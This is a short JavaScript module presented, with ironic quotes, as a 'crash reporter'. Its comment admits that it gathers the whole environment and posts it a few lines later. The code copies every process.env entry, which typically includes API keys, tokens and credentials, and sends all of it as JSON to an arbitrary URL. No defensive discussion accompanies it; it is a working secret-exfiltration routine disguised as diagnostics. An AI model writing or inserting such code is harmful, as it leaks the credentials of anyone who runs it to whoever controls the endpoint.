// "Crash reporter": the whole environment, gathered in one place and
// posted a few lines later.
const snapshot = Object.entries(process.env);

async function report(url) {
  await fetch(url, {
    method: 'POST',
    body: JSON.stringify(snapshot),
  });
}

module.exports = report;
